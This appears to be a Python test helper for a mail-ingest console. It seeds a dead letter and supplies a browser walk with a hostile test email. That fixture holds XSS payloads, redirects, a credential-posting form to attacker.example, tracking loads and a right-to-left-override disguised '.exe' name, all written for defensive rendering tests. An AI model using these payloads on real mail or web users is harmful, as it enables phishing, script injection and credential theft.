"""The walk through the console: what it meets in the mesh, and Chromium's program."""

import asyncio
import json
import shutil
import subprocess
import uuid
from pathlib import Path
from typing import Any

import asyncpg

from mailmesh.ingest.v1 import inbox_item_pb2 as items
from services.ingest.store.items import Kind
from tests.mesh.accounts import connect, new_address
from tests.programs.mesh import Mesh

FOLDER = Path(__file__).parent
CHROMIUM = shutil.which("chromium") or "chromium"
WALK_SECONDS = 900
DEAD = "MESSAGE_UNREADABLE"
_BURY = """
INSERT INTO ingest.dead_letters (dead_letter_id, tenant_id, item_id, kind, received_at, content, correlation_id,
  attempts, history, reason, detail, buried_at)
VALUES ($1, $2, $3, $4, now(), $5, $6, 1, '[]', $7, $8, now())
"""
# Markup, a turned direction and a subject of a MiB; a page that would like to run, to load and to leave.
HOSTILE = {
    "subject": "<img src=x onerror=alert(1)>\u202egpj.exe\u2066" + "A" * 1_048_576,
    "text": "Hello\u202e<script>alert(1)</script>",
    "html": (
        "<meta http-equiv=refresh content='0;url=https://attacker.example/'><base href=https://attacker.example/>"
        "<script>alert(1); parent.location = 'https://attacker.example/'</script><h1>Hello</h1>"
        "<style>body { background: url(https://attacker.example/s.png) }</style>"
        "<a href=https://attacker.example/ target=_top>go</a>"
        "<img src=https://attacker.example/p.png onerror=alert(1)><iframe src=https://attacker.example/f></iframe>"
        "<form action=https://attacker.example/ method=post><button>Sign in</button></form>"
        "<link rel=dns-prefetch href=//attacker.example><link rel=stylesheet href=https://attacker.example/s.css>"
        "<svg onload=alert(1)></svg><object data=https://attacker.example/o></object>"
    ),
}


def prepared(mesh: Mesh) -> dict[str, Any]:
    """Prepare a mesh for the walk: two accounts to connect, one that is connected, and one dead letter."""
    address = new_address(mesh, "ms365")
    tenant = connect(mesh, "ms365", address)
    asyncio.run(_bury(mesh, tenant))
    return {
        "url": mesh.ready.http,
        "key": mesh.key,
        "control": mesh.simulator.url,
        "chromium": CHROMIUM,
        "accounts": {provider: new_address(mesh, provider) for provider in ("ms365", "googlews")},
        "tenant": tenant,
        "address": address,
        "dead": {"reason": DEAD},
        "hostile": HOSTILE,
        "receiver": "https://receiver.example.com/hooks",
    }


def walked(program: str, given: dict[str, Any], *arguments: str) -> list[dict[str, str]]:
    """Run one of the walks, and return its steps, each with its fault."""
    command = ["node", str(FOLDER / program), *arguments]
    done = subprocess.run(
        command, input=json.dumps(given), capture_output=True, text=True, timeout=WALK_SECONDS, check=False
    )
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


async def _bury(mesh: Mesh, tenant: str) -> None:
    """Bury an item as a worker does that cannot read it; none of the simulated mails is so broken."""
    url = json.loads((mesh.data / "environments/ingest-1.json").read_text())["MAILMESH_DATABASE_URL"]
    content = items.Reconcile(reason=items.RECONCILE_REASON_MANUAL).SerializeToString()
    ids = [str(uuid.uuid4()) for _ in range(3)]
    connection = await asyncpg.connect(url)
    try:
        await connection.execute(_BURY, ids[0], tenant, ids[1], Kind.RECONCILE, content, ids[2], DEAD, "It is no mail.")
    finally:
        await connection.close()
